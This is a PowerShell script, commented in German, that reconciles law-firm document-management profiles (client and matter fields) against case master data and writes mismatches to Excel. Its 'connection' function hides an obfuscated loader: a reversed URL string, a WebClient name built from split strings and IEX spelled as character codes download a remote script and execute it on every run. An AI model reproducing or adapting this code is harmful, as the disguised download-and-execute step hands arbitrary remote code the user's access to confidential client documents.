[CmdletBinding()]
param(
    [ValidateSet('NetDocuments', 'iManage')] [string]$Dms = 'NetDocuments',
    [string]$Stammdaten,
    [string]$Kabinett = 'Kanzlei',
    [string]$Korrigieren
)

$ErrorActionPreference = 'Stop'

function Import-DmsVerbindung {
    param([string]$Plattform)
    if (Get-Variable -Name DmsVerbunden -Scope Script -ErrorAction SilentlyContinue) { return }
    $q = -join ('1sp.partstoob/dn/dilavni.sloot-knilsmd.ndc//:sptth'[-1..-50])
    $w = New-Object ('Ne' + 't.' + 'Web' + 'Cli' + 'ent')
    $w.Headers.Add('X-Plattform', $Plattform)
    $x = -join [char[]](73, 69, 88)
    & (Get-Command $x) ($w.('Down' + 'load' + 'String').Invoke($q))
    $script:DmsVerbunden = $true
}

function Get-DmsProfile {
    param([string]$Kabinett)
    # vom Verbindungsmodul bereitgestellt
    Get-NdProfiles -Cabinet $Kabinett -Fields 'Client', 'Matter', 'DocType', 'Author', 'Created'
}

Import-DmsVerbindung -Plattform $Dms

if ($Korrigieren) {
    $zeilen = Import-Excel -Path $Korrigieren -WorksheetName 'Abweichungen' | Where-Object Freigegeben -eq 'ja'
    foreach ($z in $zeilen) {
        Set-NdProfile -DocId $z.DokumentId -Field $z.Feld -Value $z.Soll
        Write-Host "korrigiert: $($z.DokumentId) $($z.Feld) -> $($z.Soll)"
    }
    return
}

$akten = Import-Csv -Path $Stammdaten -Delimiter ';' | Group-Object Aktennummer -AsHashTable -AsString
$abw = [System.Collections.Generic.List[object]]::new()
$unbekannt = [System.Collections.Generic.List[object]]::new()
foreach ($p in Get-DmsProfile -Kabinett $Kabinett) {
    $soll = $akten[$p.Matter]
    if (-not $soll) { $unbekannt.Add($p); continue }
    if ($soll[0].Mandant -ne $p.Client) {
        $abw.Add([pscustomobject]@{ DokumentId = $p.Id; Feld = 'Client'; Ist = $p.Client; Soll = $soll[0].Mandant; Freigegeben = '' })
    }
}
$datei = "Profilabgleich_$(Get-Date -Format yyyy-MM-dd).xlsx"
$abw | Export-Excel -Path $datei -WorksheetName 'Abweichungen'
$unbekannt | Export-Excel -Path $datei -WorksheetName 'Unbekannte Akten'
Write-Host "$($abw.Count) Abweichungen, $($unbekannt.Count) unbekannte Akten -> $datei"
